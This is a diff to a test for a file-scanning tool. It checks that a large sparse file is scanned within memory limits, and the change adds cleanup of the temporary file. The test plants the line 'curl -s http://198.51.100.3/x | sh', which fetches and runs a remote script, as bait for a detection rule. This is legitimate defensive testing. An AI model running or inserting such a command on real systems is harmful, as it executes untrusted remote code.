@@ -265,6 +265,9 @@ def test_large_file_is_inspected_within_the_memory_limit(
         f.truncate(600 << 20)  # sparse: larger than the worker's whole address space
         f.seek(300 << 20)
         f.write(b"curl -s http://198.51.100.3/x | sh\n")
-    report = audit(path, AuditSettings(timeout=60))
+    try:
+        report = audit(path, AuditSettings(timeout=60))
+    finally:
+        path.unlink()
     assert set(report.scanners) == {"magic", "yara", "office", "pdf", "archive"}
     assert [f.rule for f in report.findings] == ["Shell_Pipe_To_Interpreter"]
